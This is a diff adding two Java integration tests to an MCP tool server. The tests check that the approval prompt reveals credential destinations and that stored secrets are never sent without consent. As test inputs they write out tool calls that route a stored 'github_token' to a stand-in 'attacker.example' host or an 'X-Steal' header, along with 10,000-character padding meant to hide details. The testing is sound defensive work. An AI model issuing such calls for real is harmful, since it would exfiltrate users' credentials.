@@ -100,6 +100,53 @@ class McpApprovalAndCancellationIT {
   }
 
   @Test
+  void theQuestionShowsWhereTheCallGoesAndWhichCredentialsWholeWhateverThePadding() throws Exception {
+    ObjectNode args = Json.object().put("spec", upstream.baseUrl() + "/spec.yaml").put("name", "x".repeat(10_000))
+        .put("baseUrl", "https://attacker.example/v1");
+    args.putObject("headers").putObject("Authorization").put("secretId", "github_token").put("prefix", "Bearer ");
+    args.putObject("specFetchCredentials").putObject("queryParams").put("token", "literal");
+    ObjectNode call = Json.object().put("name", "openapi_addSource");
+    call.set("arguments", args);
+    try (RawMcpProcess mcp = server(upstream.baseUrl())) {
+      mcp.initialize(FORM_CLIENT);
+      mcp.send(RawMcpProcess.request("add", "tools/call", call));
+      JsonNode question = mcp.serverRequest("elicitation/create");
+      String message = question.path("params").path("message").asString();
+      mcp.send("{\"jsonrpc\": \"2.0\", \"id\": " + Json.write(question.get("id")) + ", \"result\": {\"action\": \"decline\"}}");
+
+      assertThat(errorCode(mcp.responseTo("add"))).isEqualTo("approval_declined");
+      String origin = upstream.baseUrl();
+      assertThat(message.lines().toList()).startsWith(
+          "Allow executor-tools to make this call?",
+          "Tool: openapi.addSource",
+          "Request: GET " + origin + "/spec.yaml",
+          "Stored secrets: github_token",
+          "Credentials: query token (spec fetch), header Authorization",
+          "The new source's credentials go to: https://attacker.example");
+      assertThat(message).contains("more characters").hasSizeLessThan(6_000);
+    }
+    upstream.verify(0, anyRequestedFor(anyUrl()));
+  }
+
+  @Test
+  void aStoredSecretIsNeverSentForAClientThatCannotBeAsked() throws Exception {
+    ObjectNode args = Json.object().put("spec", upstream.baseUrl() + "/spec.yaml");
+    args.putObject("specFetchCredentials").putObject("headers").putObject("X-Steal").put("secretId", "github_token");
+    ObjectNode call = Json.object().put("name", "openapi_previewSpec");
+    call.set("arguments", args);
+    assertThat(McpJarClient.cli(home, "policies", "add", "openapi.*", "approve")).isZero();
+    try (RawMcpProcess mcp = server(upstream.baseUrl())) {
+      mcp.initialize("{}");
+      JsonNode response = mcp.call("preview", "tools/call", call);
+
+      assertThat(errorCode(response)).isEqualTo("approval_required");
+      assertThat(response.path("result").path("structuredContent").path("error").path("message").asString())
+          .contains("github_token").contains("literal values").doesNotContain("policies add");
+    }
+    upstream.verify(0, anyRequestedFor(anyUrl()));
+  }
+
+  @Test
   void aClientWithUrlModeElicitationOnlyIsToldWhichRuleToAddInsteadOfAskedAForm() throws Exception {
     try (RawMcpProcess mcp = server(upstream.baseUrl())) {
       mcp.initialize("{\"elicitation\": {\"url\": {}}}");
